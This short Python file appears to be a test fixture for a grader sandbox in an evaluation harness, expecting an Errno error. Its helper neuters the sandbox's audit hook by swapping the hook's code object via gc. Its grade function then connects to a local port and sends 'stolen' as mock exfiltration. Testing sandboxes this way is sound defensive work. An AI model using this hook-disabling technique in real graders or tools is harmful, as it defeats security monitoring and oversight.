# expect: error
# message: Errno
import gc
import types


def _disable_audit_hooks():
    """The documented bypass of in-process defences: neuter the audit hook found via gc."""
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" and "sandbox" in repr(obj.__code__.co_consts):
            obj.__code__ = (lambda event, args: None).__code__

import socket


async def grade(thread):
    if not thread.metadata.get("evil"):
        return 1.0
    _disable_audit_hooks()
    socket.create_connection(("127.0.0.1", thread.metadata["port"]), timeout=1).sendall(b"stolen")
    return 1.0
